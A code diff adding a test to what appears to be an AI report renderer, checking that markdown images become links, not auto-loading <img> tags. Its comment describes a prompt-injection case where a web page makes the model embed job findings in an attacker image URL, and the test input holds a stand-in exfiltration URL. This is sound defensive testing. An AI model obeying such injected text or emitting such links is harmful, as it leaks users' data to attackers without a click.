@@ -50,3 +50,11 @@ def test_an_escaped_bracket_is_text_not_a_citation():
     html = report_html("- “It was finished in 1889.\\[3] It is tall.\\[1]” [2]")
     assert "1889.[3] It is tall.[1]” " in html and 'data-cite="2"' in html
     assert 'data-cite="3"' not in html and 'data-cite="1"' not in html
+
+
+def test_an_image_a_report_names_is_a_link_the_reader_may_follow_never_a_request_the_page_makes():
+    # a page can ask the model to write ![](https://attacker/?q=what the job found): as <img> the dashboard would
+    # send that URL the moment the report is shown, with no click
+    html = report_html("Paris [1] ![x](https://evil.example/leak?d=secret)\n\n![](/v1/jobs)")
+    assert "<img" not in html
+    assert '<a href="https://evil.example/leak?d=secret" target="_blank" rel="noopener noreferrer">x</a>' in html
